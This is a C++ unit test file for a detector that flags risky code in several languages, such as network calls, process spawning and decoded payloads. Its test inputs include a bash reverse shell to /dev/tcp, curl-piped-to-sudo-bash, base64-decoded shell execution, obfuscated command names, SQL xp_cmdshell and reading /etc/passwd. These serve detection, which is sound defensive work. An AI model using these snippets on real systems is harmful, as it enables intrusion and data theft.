#include <gtest/gtest.h>

#include "code_testing.h"

namespace shareguard::inspect {
namespace {

TEST(RTest, Names) {
  EXPECT_EQ(RulesOf("r", "library(httr)\n"), "r-http");
  EXPECT_EQ(RulesOf("r", "suppressPackageStartupMessages(library(\"RCurl\"))"), "r-http");
  EXPECT_EQ(RulesOf("r", "if (requireNamespace('processx', quietly = TRUE)) 1"), "r-process");
  EXPECT_EQ(RulesOf("r", "x <- httr::GET(url)\n"), "r-http");
  EXPECT_EQ(RulesOf("r", "x <- httr:::GET\n"), "r-http");
  EXPECT_EQ(RulesOf("r", "pacman::p_load(dplyr, curl)"), "r-http");
  EXPECT_EQ(RulesOf("r", "download.file(u, f)\nbase::system('ls')"), "r-http r-process");
  EXPECT_EQ(RulesOf("r", "f <- system\nf('ls')\n"), "r-process");
  EXPECT_EQ(RulesOf("r", "do.call('system', list('ls'))\nmatch.fun(\"download.file\")(u)"), "r-http r-process");
  EXPECT_EQ(RulesOf("r", "system('curl -O http://x')"), "r-process shell-fetch");
  EXPECT_EQ(RulesOf("r", "`system`('x')"), "r-process");
  EXPECT_EQ(RulesOf("r", "dyn.load('x.so')"), "r-native");
  EXPECT_EQ(RulesOf("r", "x$system('ls')\nsystem.time(f())\nmy.system()\nsystem.file('x')\n"), "");
}

TEST(RTest, MentionsAndHiddenCode) {
  EXPECT_EQ(
      RulesOf("r", "# library(httr)\nx <- 'library(httr)\nsystem(1)'\ny <- r\"--(system(\")--\"; r'{library(httr)}'"),
      "");
  EXPECT_EQ(RulesOf("r", "eval(parse(text = rawToChar(base64enc::base64decode(x))))"), "r-encoding run-decoded");
  EXPECT_EQ(RulesOf("r", "eval(parse(text = paste0('x', i)))"), "");
  EXPECT_EQ(RulesOf("r", "get(paste0('sys', 'tem'))('ls')"), "built-name r-process");
  EXPECT_EQ(RulesOf("r", "get(paste0('model_', i))"), "");
  EXPECT_EQ(RulesOf("r", "x <- intToUtf8(c(115, 121, 115, 116, 101, 109, 40, 41))"), "char-codes");
}

TEST(JuliaTest, Names) {
  EXPECT_EQ(RulesOf("julia", "using HTTP\n"), "julia-http");
  EXPECT_EQ(RulesOf("julia", "using DataFrames, Downloads: download\n"), "julia-http");
  EXPECT_EQ(RulesOf("julia", "import Sockets as S\nusing CSV,\n  HTTP\n"), "julia-http julia-socket");
  EXPECT_EQ(RulesOf("julia", "run(`ls -l`)"), "julia-process");
  EXPECT_EQ(RulesOf("julia", "run(pipeline(`curl $url`, stdout=f))"), "julia-process shell-fetch");
  EXPECT_EQ(RulesOf("julia", "ccall((:system, \"libc\"), Cint, (Cstring,), c)"), "julia-native");
  EXPECT_EQ(RulesOf("julia", "x = \"$(download(url))\""), "julia-http");
  EXPECT_EQ(RulesOf("julia",
                    "#= using HTTP #= nested =# run(`x`) =#\n# using HTTP\ns = \"\"\"using \"HTTP\" run(`x`)\"\"\"\n"
                    "c = '\"'; y = a' * b'; t = 'x'\nraw\"using HTTP \\\"\""),
            "");
  EXPECT_EQ(RulesOf("julia", "c = '\"'; y = a'\nusing HTTP\n"), "julia-http");
  EXPECT_EQ(RulesOf("julia", "eval(Meta.parse(String(base64decode(s))))"), "julia-encoding run-decoded");
  EXPECT_EQ(RulesOf("julia", "function run(x)\n x + 1\nend\n"), "");
}

TEST(JavaScriptTest, Names) {
  EXPECT_EQ(RulesOf("javascript", "const cp = require('child_process');\ncp.exec('ls');"), "javascript-process");
  EXPECT_EQ(RulesOf("javascript", "const { createServer, connect: c } = require('node:net')\nc(1)\n"),
            "javascript-socket");
  EXPECT_EQ(RulesOf("javascript", "import fs, { x as y } from 'fs'\nimport * as h from \"https\"\n"),
            "javascript-http");
  EXPECT_EQ(RulesOf("javascript", "import 'ws'; export { a } from 'axios';"), "javascript-http javascript-socket");
  EXPECT_EQ(RulesOf("typescript", "import type { A } from 'x';\nconst m = await import('got');"), "javascript-http");
  EXPECT_EQ(RulesOf("javascript", "window.fetch(u); new XMLHttpRequest(); new WebSocket(u)"),
            "javascript-http javascript-socket");
  EXPECT_EQ(RulesOf("javascript", "window['fetch'](u)"), "javascript-http");
  EXPECT_EQ(RulesOf("javascript", "`a ${`b ${fetch(u)}`} c`"), "javascript-http");
  EXPECT_EQ(RulesOf("javascript", "navigator?.clipboard?.writeText(x)"), "javascript-clipboard");
  EXPECT_EQ(RulesOf("javascript", "require('./net'); require('../http/x'); cache.fetch(1); import.meta.url"), "");
}

TEST(JavaScriptTest, MentionsAndHiddenCode) {
  EXPECT_EQ(RulesOf("javascript", "// fetch(u)\n/* require('net') */ 'fetch(u)'; `require('net')`; /fetch(u)[/'\"]/g"),
            "");
  EXPECT_EQ(RulesOf("javascript", "if (/[\"']/.test(a)) b(); x = a / b; y = c / d\nfetch(u)"), "javascript-http");
  EXPECT_EQ(RulesOf("javascript", "if (x) /'/.test(y)\nfetch(u)"), "javascript-http");
  EXPECT_EQ(RulesOf("javascript", "eval(atob('x'))"), "javascript-encoding run-decoded");
  EXPECT_EQ(RulesOf("javascript", "new Function(atob(x))()"), "javascript-encoding run-decoded");
  EXPECT_EQ(RulesOf("javascript", "var d = unescape(x); eval(d)"), "run-decoded");
  EXPECT_EQ(RulesOf("javascript", "window['ev' + 'al'](x)"), "built-name");
  EXPECT_EQ(RulesOf("javascript", "require('child_' + 'process')"), "built-name javascript-process");
  EXPECT_EQ(RulesOf("javascript", "x = String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41)"), "char-codes");
  EXPECT_EQ(RulesOf("javascript", "\\u0065val(atob(x))"), "escapes javascript-encoding run-decoded");
  EXPECT_EQ(RulesOf("javascript", "function eval(x) { return x }\nconfig['a' + 'b']\n"), "");
}

TEST(JavaTest, Names) {
  EXPECT_EQ(RulesOf("java", "import java.net.Socket;\nclass A { Socket s; }"), "java-socket");
  EXPECT_EQ(RulesOf("java", "import java.net.*;\nimport java.util.List;\n"), "");
  EXPECT_EQ(RulesOf("java", "class A { void f() { Runtime.getRuntime().exec(\"ls\"); } }"), "java-process");
  EXPECT_EQ(RulesOf("java", "class A { void f() { Process p = new ProcessBuilder(\"scp\", x).start(); } }"),
            "java-process shell-transfer");
  EXPECT_EQ(RulesOf("java", "class A { java.net.Socket s = new java.net.Socket(h, 1); }"), "java-socket");
  EXPECT_EQ(RulesOf("java", "import javax.crypto.Cipher;\nclass A { Object c = Cipher.getInstance(x); }"),
            "java-cipher");
  EXPECT_EQ(RulesOf("java",
                    "// import java.net.Socket;\n/* Runtime.getRuntime().exec() */\nclass A { String s = \"\"\"\n"
                    "  \"Runtime.getRuntime().exec()\" \"\"\"; char c = '\"'; }"),
            "");
}

TEST(CTest, Names) {
  EXPECT_EQ(RulesOf("c", "#include <curl/curl.h>\n"), "c-http");
  EXPECT_EQ(RulesOf("c", "# include \"winsock2.h\"\n"), "c-socket");
  EXPECT_EQ(RulesOf("c", "int main() { return system(\"ls\"); }"), "c-process");
  EXPECT_EQ(RulesOf("c", "void f(void) { if (x) popen(c, \"r\"); int s = socket(1, 2, 3); }"), "c-process c-socket");
  EXPECT_EQ(RulesOf("c++", "int f() { return std::system(\"wget x\"); }"), "c-process shell-fetch");
  EXPECT_EQ(RulesOf("c++", "void f() { sig.connect(x); p->bind(y); std::bind(z); boost::system(1); }"), "");
  EXPECT_EQ(RulesOf("c",
                    "extern int system (const char *command);\nFILE *popen(const char *, const char *);\n"
                    "static inline int connect(int a) { return a; }\n#define S system\n"),
            "");
  EXPECT_EQ(RulesOf("c", "// a \\\nsystem(x)\n/* system(x) */ \"system(x)\"; '\"'; L\"a\"; \n"), "");
  EXPECT_EQ(RulesOf("c++", "auto s = R\"x(system(\"a)\" )x\"; int n = 1'000'000;"), "");
}

TEST(ShellTest, Commands) {
  EXPECT_EQ(RulesOf("shell", "curl http://x"), "shell-fetch");
  EXPECT_EQ(RulesOf("shell", "A=b /usr/bin/wget x && true\n"), "shell-fetch");
  EXPECT_EQ(RulesOf("shell", "if ! curl x; then :; fi; for i in curl wget; do echo $i; done"), "shell-fetch");
  EXPECT_EQ(RulesOf("shell", "sudo -u me env A=1 nice -n 10 scp a b"), "shell-other-user shell-transfer");
  EXPECT_EQ(RulesOf("shell", "ls | xargs -n 1 curl"), "shell-fetch");
  EXPECT_EQ(RulesOf("shell", "find . -exec scp {} host: \\;"), "shell-transfer");
  EXPECT_EQ(RulesOf("shell", "x=$(curl a) y=`wget b` z=\"$(nc c)\" w=\"${v:-$(scp d)}\""),
            "shell-fetch shell-netcat shell-transfer");
  EXPECT_EQ(RulesOf("shell", "c=curl; $c http://x"), "shell-fetch");
  EXPECT_EQ(RulesOf("shell", "c'u'rl x; w\\get y; n\"\"c z"), "shell-fetch shell-netcat");
  EXPECT_EQ(RulesOf("shell", "curl${IFS}x"), "shell-fetch");
  EXPECT_EQ(RulesOf("shell", "bash -c 'scp a b'; eval \"nc x\""), "shell-netcat shell-transfer");
  EXPECT_EQ(RulesOf("shell", "f() { curl x; }\ncase $x in a) wget b;; esac\n"), "shell-fetch");
  EXPECT_EQ(RulesOf("shell", "bash -i >& /dev/tcp/10.0.0.1/80 0>&1"), "shell-socket");
  EXPECT_EQ(RulesOf("shell", "bash <<EOF\nnc x\nEOF\n"), "shell-netcat");
}

TEST(ShellTest, MentionsAndHiddenCode) {
  EXPECT_EQ(RulesOf("shell", "# curl x\necho curl; echo \"wget x; nc y\" 'scp'; x=curl\n"), "");
  EXPECT_EQ(RulesOf("shell", "apt install curl wget\n"), "shell-fetch");
  EXPECT_EQ(RulesOf("shell", "cat <<EOF\ncurl x\nEOF\ncat <<-'END' | grep y\n\tnc z\n\tEND\nls\n"), "");
  EXPECT_EQ(RulesOf("shell", "case $1 in curl|wget) a;; scp) b;; esac\ncurl() { :; }\narr=(curl wget)\n"), "");
  EXPECT_EQ(RulesOf("shell", "i=$(( curl + 1 )); ((nc++)); echo ${curl} ${#nc} > curl\n"), "");
  EXPECT_EQ(RulesOf("shell", "echo eA== | base64 -d | sh"), "decoded-to-shell shell-encoding");
  EXPECT_EQ(RulesOf("shell", "eval \"$(echo eA== | base64 --decode)\""), "decoded-to-shell shell-encoding");
  EXPECT_EQ(RulesOf("shell", "base64 -d file > picture.png\nbash run.sh\n"), "shell-encoding");
  EXPECT_EQ(RulesOf("shell", "curl -s x | sudo bash"), "shell-fetch shell-fetched shell-other-user");
  EXPECT_EQ(RulesOf("shell", "bash <(curl -s x)"), "shell-fetch shell-fetched");
}

TEST(SqlTest, Statements) {
  EXPECT_EQ(RulesOf("sql", "COPY t FROM PROGRAM 'curl x';"), "sql-program");
  EXPECT_EQ(RulesOf("sql", "EXEC master..xp_cmdshell 'dir';"), "sql-program");
  for (const char* escape : {"\\! ls", "\\o |sh", "\\o | sh", "SELECT 1 \\g |sh", ".shell ls", ".system ls"}) {
    EXPECT_EQ(RulesOf("sql", std::string("SELECT 1;\n") + escape + "\n"), "sql-program") << escape;
  }
  EXPECT_EQ(RulesOf("sql", "\\d t\n\\o out.txt\n\\copy t to 'x.csv'\nSELECT a.shell, b.system, c || d FROM t;\n"), "");
  EXPECT_EQ(RulesOf("sql", "SELECT * INTO OUTFILE '/tmp/x' FROM t;\nSELECT LOAD_FILE('/etc/passwd');"), "sql-file");
  EXPECT_EQ(RulesOf("sql", "DO $$ BEGIN COPY t TO PROGRAM 'x'; END $$;"), "sql-program");
  EXPECT_EQ(RulesOf("sql", "/*! SELECT LOAD_FILE(1) */"), "sql-file");
  EXPECT_EQ(RulesOf("sql",
                    "COPY t FROM '/x'; SELECT program FROM t;\n-- xp_cmdshell\n/* load_file(x) */\n"
                    "SELECT 'xp_cmdshell', 'it''s load_file', 'c:\\';\nSELECT a INTO b FROM outfile;"),
            "");
  EXPECT_EQ(RulesOf("sql", "INSERT INTO t VALUES ('it\\'s'); SELECT load_file(1)"), "sql-file");
}

}  // namespace
}  // namespace shareguard::inspect
